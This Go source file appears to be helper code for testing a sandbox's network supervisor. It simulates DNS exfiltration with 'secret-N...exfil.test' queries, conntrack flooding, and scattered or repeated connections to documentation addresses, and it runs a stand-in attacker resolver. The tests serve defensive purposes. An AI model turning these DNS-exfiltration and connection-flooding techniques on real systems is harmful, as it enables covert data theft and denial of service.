package main

import (
	"bufio"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/miekg/dns"
)

// listeners are the sockets that wait in this namespace, "tcp 127.0.0.1:40123", as anybody inside
// can read them.
func listeners() ([]string, error) {
	var out []string
	for _, table := range []string{"tcp", "tcp6", "udp", "udp6"} {
		f, err := os.Open("/proc/net/" + table)
		if err != nil {
			return nil, err
		}
		lines := bufio.NewScanner(f)
		for lines.Scan() {
			fields := strings.Fields(lines.Text())
			if len(fields) < 4 || fields[3] != "0A" && fields[3] != "07" { // LISTEN; a UDP socket that is not connected
				continue
			}
			_, port, ok := strings.Cut(fields[1], ":")
			n, err := strconv.ParseUint(port, 16, 16)
			if !ok || err != nil {
				continue
			}
			addr := netip.AddrFrom4([4]byte{127, 0, 0, 1})
			if strings.HasSuffix(table, "6") {
				addr = netip.IPv6Loopback()
			}
			out = append(out, strings.TrimSuffix(table, "6")+" "+netip.AddrPortFrom(addr, uint16(n)).String())
		}
		f.Close()
		if err := lines.Err(); err != nil {
			return nil, err
		}
	}
	return out, nil
}

// flood makes n connections to addr, on the loopback device, or to a listener of its own for "",
// and returns how many entries the connection table has then.
func flood(addr string, n int) (int, error) {
	if addr == "" {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return 0, err
		}
		defer l.Close()
		addr = l.Addr().String()
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				c.(*net.TCPConn).SetLinger(0) // no TIME_WAIT: the ports are for the next
				c.Close()
			}
		}()
	}
	each(n, func(int) {
		if c, err := net.DialTimeout("tcp", addr, patience); err == nil { // a reset may come first
			c.(*net.TCPConn).SetLinger(0)
			c.Close()
		}
	})
	data, err := os.ReadFile("/proc/net/stat/nf_conntrack")
	if err != nil {
		return 0, err
	}
	lines := strings.SplitN(string(data), "\n", 3)
	if len(lines) < 2 {
		return 0, fmt.Errorf("unexpected %q", data)
	}
	entries, _, _ := strings.Cut(lines[1], " ")
	count, err := strconv.ParseInt(entries, 16, 32)
	return int(count), err
}

// names asks the resolver at addr for n names that nobody asked for before, and returns how many
// answers came.
func names(addr string, n int) int {
	var mu sync.Mutex
	answers := 0
	kinds := []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL}
	each(n, func(i int) {
		m := new(dns.Msg).SetQuestion(fmt.Sprintf("secret-%d.x%d.exfil.test.", i, i*7919), kinds[i%len(kinds)])
		client := dns.Client{Net: "udp", Timeout: 200 * time.Millisecond}
		if _, _, err := client.Exchange(m, addr); err == nil {
			mu.Lock()
			answers++
			mu.Unlock()
		}
	})
	return answers
}

// scatter connects to n destinations, each another address or port, and returns how many
// connections were made: the supervisor takes each before it refuses it.
func scatter(n int) int {
	return connects(n, func(i int) string {
		return netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, byte(1 + i%250)}), uint16(10000+i/250)).String()
	})
}

// hammer connects n times to one destination, which it resolves once.
func hammer(addr string, n int) (int, error) {
	a, err := net.ResolveTCPAddr("tcp4", addr)
	if err != nil {
		return 0, err
	}
	return connects(n, func(int) string { return a.String() }), nil
}

// connects makes n connections and returns how many were made, those that were reset included.
func connects(n int, addr func(i int) string) int {
	var mu sync.Mutex
	made := 0
	each(n, func(i int) {
		c, err := net.DialTimeout("tcp", addr(i), patience)
		if err != nil && !errors.Is(err, syscall.ECONNRESET) {
			return
		}
		mu.Lock()
		made++
		mu.Unlock()
		if err == nil {
			c.(*net.TCPConn).SetLinger(0)
			c.Close()
		}
	})
	return made
}

// each calls f n times, several at a time.
func each(n int, f func(i int)) {
	var wg sync.WaitGroup
	workers := 8 * runtime.NumCPU()
	for w := range workers {
		wg.Go(func() {
			for i := w; i < n; i += workers {
				f(i)
			}
		})
	}
	wg.Wait()
}

// answer is a resolver of the attacker's: every name is 203.0.113.20.
func answer(c net.PacketConn) {
	s := dns.Server{PacketConn: c, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := new(dns.Msg).SetReply(q)
		for _, question := range q.Question {
			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: question.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60},
				A: net.IPv4(203, 0, 113, 20)})
		}
		_ = w.WriteMsg(m)
	})}
	_ = s.ActivateAndServe()
}
